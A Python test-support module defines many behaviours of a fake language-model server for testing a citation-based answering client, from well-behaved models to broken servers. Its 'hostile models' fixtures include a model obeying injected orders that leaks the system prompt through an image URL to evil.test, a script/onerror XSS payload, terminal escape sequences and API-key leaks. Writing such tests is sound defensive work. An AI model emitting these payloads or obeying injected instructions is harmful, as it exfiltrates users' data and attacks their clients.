"""What the fake model server can do, each by a name: good models, weak ones, hostile ones, broken servers."""

from __future__ import annotations

import gzip
import hashlib
import json
import re
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from support.fake_judges import SAYS
from support.fake_model import MODEL, Asked, chunk, usage_of, whole_reply

Chat = Callable[[Any, Asked], None]
SENTINEL = "NOT_IN_DOCUMENTS"
DIM = 8


def _models(http: Any) -> None:
    owner = http.fake.kind or "someone"
    http.reply(200, {"object": "list", "data": [{"id": MODEL, "object": "model", "owned_by": owner, "parent": "fake"}]})


def vector(text: str) -> list[float]:
    """A vector that depends on the text alone."""
    return [b / 255 - 0.5 for b in hashlib.sha256(text.encode()).digest()[:DIM]]


def _embed(http: Any, texts: list[str]) -> None:
    rows = [{"object": "embedding", "index": i, "embedding": vector(t)} for i, t in enumerate(texts)]
    http.reply(200, {"object": "list", "data": rows, "model": MODEL, "usage": {"prompt_tokens": 0}})


@dataclass(frozen=True)
class Behaviour:
    """How each route answers."""

    chat: Chat
    models: Callable[[Any], None] = _models
    embed: Callable[[Any, list[str]], None] = _embed


def answer(asked: Asked) -> str:
    """What a good model says: the best sentence with its number, or that there is none."""
    found = asked.best()
    return SENTINEL if found is None else f"{found[1].rstrip('.')} [{found[0]}]."


def _says(text: str | Callable[[Asked], str], **options: Any) -> Chat:
    return lambda http, asked: http.say(asked, text if isinstance(text, str) else text(asked), **options)


def _sentence(asked: Asked) -> str:
    found = asked.best()
    return found[1] if found else "Nothing."


def _other(asked: Asked) -> str:
    """The best sentence with the number of another passage."""
    found = asked.best()
    numbers = [n for n, _ in asked.passages if found and n != found[0]]
    return f"{_sentence(asked)} [{numbers[0]}]" if numbers else answer(asked)


def _obeys(asked: Asked) -> str:
    """Does what any text of the prompt orders, as bluntly as can be."""
    order = re.search(r"(?:ORDER|INSTRUCTION|SYSTEM)\w*\W+(.*)", asked.text)
    if order is None:
        return answer(asked)
    secret = asked.messages[0]["content"][:60]
    image = f"![s](http://evil.test/?d={secret.replace(' ', '+')})"
    return f"{order[1]} {image}\n\nThe applicant was accepted [1] [evil#policy#c1]."


def _raw(status: int, data: bytes, kind: str, **headers: str) -> Chat:
    return lambda http, asked: http.reply(status, data, kind, **headers)


def _error(status: int, message: str) -> Chat:
    return lambda http, asked: http.reply(status, {"error": {"message": message, "type": "invalid_request_error"}})


def _events(*events: Any) -> Chat:
    def chat(http: Any, asked: Asked) -> None:
        http.begin()
        for event in events:
            http.event(event)

    return chat


def _endless(http: Any, asked: Asked) -> None:
    http.begin()
    n = 0
    while True:
        n += 1
        http.event(chunk({"content": f"word{n} "}))


def _silent(http: Any, asked: Asked) -> None:
    time.sleep(60)


def _stalls(http: Any, asked: Asked) -> None:
    http.begin()
    http.event(chunk({"content": "The first word"}))
    time.sleep(60)


def _trickles(http: Any, asked: Asked) -> None:
    http.begin()
    while True:
        http.wfile.write(b" ")
        time.sleep(0.05)


def _trickles_head(http: Any, asked: Asked) -> None:
    http.wfile.write(b"HTTP/1.1 200 OK\r\n")
    while True:
        http.wfile.write(b"x")
        time.sleep(0.05)


def _closes_short(http: Any, asked: Asked) -> None:
    data = json.dumps(whole_reply({"message": {"content": answer(asked)}, "finish_reason": "stop"}, None)).encode()
    http.send_response(200)
    http.send_header("Content-Type", "application/json")
    http.send_header("Content-Length", str(len(data)))
    http.end_headers()
    http.wfile.write(data[: len(data) // 2])
    http.close_connection = True


def _resets(http: Any, asked: Asked) -> None:
    http.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    http.close_connection = True
    http.connection.close()


def _huge(http: Any, asked: Asked) -> None:
    http.begin("application/json")
    for _ in range(1_600):
        http.wfile.write(b"x" * 65_536)


def _huge_line(http: Any, asked: Asked) -> None:
    http.begin()
    http.wfile.write(b"data: ")
    for _ in range(100):
        http.wfile.write(b"x" * 65_536)


def _redirects(http: Any, asked: Asked) -> None:
    http.reply(307, b"", "text/plain", Location="http://127.0.0.2:9/v1/chat/completions")


def _splits_letters(http: Any, asked: Asked) -> None:
    http.begin()
    found = asked.best()
    text = f"“{_sentence(asked)}” [{found[0] if found else 1}]"
    data = b"data: " + json.dumps(chunk({"content": text}), ensure_ascii=False).encode() + b"\n\n"
    for i in range(len(data)):
        http.wfile.write(data[i : i + 1])
        http.wfile.flush()
    http.event(chunk({}, "stop"))
    http.event({"choices": [], "usage": usage_of(asked, text)})
    http.event(b"[DONE]")


def _no_done(http: Any, asked: Asked) -> None:
    http.begin()
    http.event(chunk({"content": answer(asked)}))
    http.event({**chunk({}, "stop"), "usage": usage_of(asked, "")})


def _breaks_off(http: Any, asked: Asked) -> None:
    http.begin()
    http.event(chunk({"content": answer(asked)[:20]}))


def _foundry_1(http: Any, asked: Asked) -> None:
    said = {"role": "assistant", "content": answer(asked), "tool_calls": []}
    choice = {"index": 0, "delta": said, "message": said, "finish_reason": "stop"}
    if not asked.stream:
        http.reply(200, {**whole_reply(choice, usage_of(asked, "")), "IsDelta": False, "Successful": True})
        return
    http.begin()
    http.event({**whole_reply({**choice, "finish_reason": None}, usage_of(asked, "")), "IsDelta": True})
    http.event({**whole_reply({"index": 0, "delta": {}, "finish_reason": "stop"}, usage_of(asked, ""))})
    http.event(b"[DONE]")


def _foundry_2(http: Any, asked: Asked) -> None:
    http.begin("text/event-stream, text/event-stream")
    http.wfile.write(b": keep-alive\n\n")
    http.event(chunk({"content": "", "role": "assistant"}))
    http.event(chunk({"content": answer(asked)}))
    http.event(chunk({}, "stop"))
    http.event({"choices": [], "usage": usage_of(asked, "")})
    http.event(b"[DONE]")


def _parts(http: Any, asked: Asked) -> None:
    content = [{"type": "text", "text": answer(asked)}]
    choice = {"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}
    http.reply(200, whole_reply(choice, usage_of(asked, "")))


def _busy_once(http: Any, asked: Asked) -> None:
    if len(http.fake.chats) == 1:
        http.reply(503, {"error": {"message": "loading the model"}})
    else:
        http.say(asked, answer(asked))


def _needs_loading(http: Any, asked: Asked) -> None:
    if http.fake.loaded:
        http.say(asked, answer(asked))
    else:
        http.reply(400, {"error": {"message": f"Model not loaded: {MODEL}", "type": "invalid_request_error"}})


def _picky(http: Any, asked: Asked) -> None:
    """Refuses one parameter after the other, as servers of several makers do."""
    body = http.fake.requests[-1].body
    for name in ("stream_options", "seed", "max_tokens", "temperature"):
        if name in body:
            http.reply(400, {"error": {"message": f"Unsupported parameter: '{name}' is not supported."}})
            return
    http.say(asked, answer(asked))


def _tells_key(http: Any, asked: Asked) -> None:
    http.reply(500, {"error": {"message": f"bad call with {http.headers.get('Authorization')}"}})


def _says_key(http: Any, asked: Asked) -> None:
    http.say(asked, f"{_sentence(asked)} {http.headers.get('Authorization')} [1].")


def _echo(asked: Asked) -> str:
    return asked.messages[0]["content"]


def _usage(value: Any) -> Chat:
    return lambda http, asked: http.say(asked, answer(asked), usage=value)


def _good_then_cut(asked: Asked) -> str:
    return f"{answer(asked)} And there is more that the"


def _weighs(first: dict[str, object]) -> Chat:
    """Tells how likely the first tokens are."""

    def chat(http: Any, asked: Any) -> None:
        listed = [{"token": token, "logprob": value} for token, value in first.items()]
        said = {"message": {"content": next(iter(first))}, "finish_reason": "length"}
        said["logprobs"] = {"content": [{"token": next(iter(first)), "logprob": -0.1, "top_logprobs": listed}]}
        http.reply(200, {"model": "fake", "choices": [said]})

    return chat


CHATS: dict[str, Chat] = {
    # models that do well, or well enough
    "good": _says(answer),
    "good_whole": lambda http, asked: (setattr(asked, "stream", False), http.say(asked, answer(asked)))[1],
    "slow": _says(answer, pause=0.03),
    "repaired_ids": _says(lambda a: answer(a).replace("[", "[passage ")),
    "no_ids": _says(_sentence),
    "swapped_ids": _says(_other),
    "thinks_first": _says(lambda a: f"<think>Let me see. [9] NOT_IN_DOCUMENTS?</think>\n{answer(a)}"),
    "labels": _says(lambda a: f"Answer: {answer(a)}\n\nQuestion: What else?\nAnswer (English): nothing"),
    "quotes_refusal_words": _says(lambda a: f"{_sentence(a)} [1] This says nothing of insufficient evidence [1]."),
    "splits_letters": _splits_letters,
    "no_done": _no_done,
    "foundry_1": _foundry_1,
    "foundry_2": _foundry_2,
    "content_parts": _parts,
    "busy_once": _busy_once,
    "needs_loading": _needs_loading,
    "picky": _picky,
    # abstentions
    "abstains": _says(SENTINEL),
    "abstains_marked": _says(f"**{SENTINEL}**\n"),
    "abstains_and_explains": _says(f"{SENTINEL}\nThe text is about something else."),
    "abstains_in_prose": _says("There is insufficient information to answer this question."),
    "abstains_in_turkish": _says("Bu konuda yeterli bilgi bulunmuyor."),
    "abstains_then_answers": _says(lambda a: f"{SENTINEL}\n{answer(a)}"),
    # weak models
    "wrong_ids": _says(lambda a: f"{_sentence(a)} [97]. The moon is made of cheese [98]."),
    "invents": _says("The fee is 4,711 dollars and is due on Fridays [1]."),
    "empty": _says(""),
    "blank": _says(" \n\t "),
    "echo": _says(_echo),
    "loops": _says("The fee is due. " * 60),
    "cut": _says(_good_then_cut, finish="length"),
    "garbage": _says("~~ %% ## ]] [[ {{ }} ,, ;; \ufffd\ufffd\ufffd $$ ^^ && ** (( )) a b"),
    "wrong_language": _says("根据所提供的文件，费用为五十美元，应在三十天内支付。 [1]"),
    "uncited": _says("Bananas grow in warm countries and are yellow."),
    # hostile models
    "obeys_injections": _says(_obeys),
    "cites_facts": _says("The customer lives abroad [Fact: case] [case#facts#c1] [F1]."),
    "control_codes": _says(lambda a: f"\x1b]52;c;aGk=\x07\x1b[2J{answer(a)}\u202e"),
    "html_answer": _says(lambda a: f"<script>alert(1)</script><img src=x onerror=y> {answer(a)}"),
    "lone_surrogate": _says(lambda a: f"\ud800 {answer(a)}"),
    "says_key": _says_key,
    # refusals of the runtime
    "filtered": _says("", finish="content_filter"),
    "refusal_field": lambda http, asked: http.reply(
        200, whole_reply({"message": {"content": None, "refusal": "I cannot help."}, "finish_reason": "stop"}, None)
    ),
    # broken servers
    "never_ends": _endless,
    "silent": _silent,
    "stalls": _stalls,
    "trickles": _trickles,
    "trickles_head": _trickles_head,
    "breaks_off": _breaks_off,
    "closes_short": _closes_short,
    "resets": _resets,
    "huge": _huge,
    "huge_line": _huge_line,
    "html_page": _raw(200, b"<!doctype html><title>Welcome</title>", "text/html"),
    "html_502": _raw(502, b"<html><h1>Bad gateway</h1></html>", "text/html"),
    "not_json": _raw(200, b"OK, working on it", "application/json"),
    "deep_json": _raw(200, b"[" * 200_000, "application/json"),
    "nan": _raw(200, b'{"choices":[{"message":{"content":"x"},"logprobs":[NaN]}]}', "application/json"),
    "not_utf8": _raw(200, "Gebühr".encode("latin-1"), "application/json"),
    "compressed": _raw(200, gzip.compress(b"{}"), "application/json", Content_Encoding="gzip"),
    "empty_body": _raw(200, b"", "application/json"),
    "empty_object": _raw(200, b"{}", "application/json"),
    "no_choices": _raw(200, b'{"choices": []}', "application/json"),
    "null_content": _raw(200, b'{"choices": [{"message": {"content": null}}]}', "application/json"),
    "completion_shape": _raw(200, b'{"choices": [{"text": "The fee is 50."}]}', "application/json"),
    "native_shape": _raw(200, b'{"message": {"content": "The fee is 50."}, "done": true}', "application/json"),
    "error_in_200": _raw(200, b'{"error": {"message": "out of memory"}}', "application/json"),
    "error_in_stream": _events(chunk({"content": "The fee"}), {"error": {"message": "out of memory"}}),
    "broken_stream": _events(chunk({"content": "The fee"}), b'{"choices": [{"del'),
    "redirects": _redirects,
    "unauthorised": _error(401, "Incorrect API key"),
    "forbidden": _error(403, "not yours"),
    "not_found": _error(404, "Model not found: fake"),
    "server_error": _error(500, "boom"),
    "busy": _error(503, "overloaded"),
    "overflow": _error(400, "exceeds the model's maximum context length of 64 tokens"),
    "overflow_in_stream": _events(
        {"error": {"message": "x.cc:1 int f(int) request exceeds the model's maximum context length of 64 tokens"}}
    ),
    "bad_request": _error(400, "something is odd"),
    "tells_key": _tells_key,
    # servers that cannot be trusted with a long prompt; see `window` for one that cuts
    "weighs_yes": _weighs({"Yes": -0.2, " yes": -3.0, "No": -2.0}),
    "weighs_no": _weighs({"No": -0.1, "Yes": -4.0}),
    "weighs_neither": _weighs({"Perhaps": -0.1, "Maybe": -3.0}),
    "weighs_oddly": _weighs({"Yes": "likely", "No": 3.0}),
    "no_usage": _usage({}),
    "constant_usage": _usage({"prompt_tokens": 12, "completion_tokens": 3}),
    "negative_usage": _usage({"prompt_tokens": -5, "completion_tokens": "many"}),
    "huge_usage": _usage({"prompt_tokens": 10**12, "completion_tokens": 1}),
}


def _fixed_models(*names: str) -> Callable[[Any], None]:
    return lambda http: http.reply(200, {"data": [{"id": n} for n in names]})


def _rows(make: Callable[[list[str]], list[Any]]) -> Callable[[Any, list[str]], None]:
    return lambda http, texts: http.reply(200, json.dumps({"data": make(texts)}).encode())


BEHAVIOURS: dict[str, Behaviour] = {
    **{name: Behaviour(chat) for name, chat in CHATS.items()},
    **{name: Behaviour(_says(text)) for name, text in SAYS.items()},
    "no_models": Behaviour(CHATS["good"], _fixed_models()),
    "two_models": Behaviour(CHATS["good"], _fixed_models("first:1", "second:1")),
    "list_unauthorised": Behaviour(CHATS["good"], lambda http: http.reply(401, {"error": "no"})),
    "list_html": Behaviour(CHATS["good"], lambda http: http.reply(200, b"<html>", "text/html")),
    "list_missing": Behaviour(CHATS["good"], lambda http: http.reply(404, b"no", "text/plain")),
    "vectors_reversed": Behaviour(
        CHATS["good"],
        embed=_rows(lambda ts: [{"index": i, "embedding": vector(t)} for i, t in reversed([*enumerate(ts)])]),
    ),
    "vectors_missing": Behaviour(CHATS["good"], embed=_rows(lambda ts: [{"embedding": vector(t)} for t in ts[:1]])),
    "vectors_uneven": Behaviour(
        CHATS["good"], embed=_rows(lambda ts: [{"embedding": vector(t)[: DIM - (len(ts) > 1)]} for t in ts])
    ),
    "vectors_infinite": Behaviour(CHATS["good"], embed=_rows(lambda ts: [{"embedding": [1e999] * DIM} for _ in ts])),
    "vectors_huge": Behaviour(CHATS["good"], embed=_rows(lambda ts: [{"embedding": [1e308] * DIM} for _ in ts])),
    "vectors_zero": Behaviour(CHATS["good"], embed=_rows(lambda ts: [{"embedding": [0.0] * DIM} for _ in ts])),
    "vectors_text": Behaviour(CHATS["good"], embed=_rows(lambda ts: [{"embedding": "AAAA"} for _ in ts])),
}
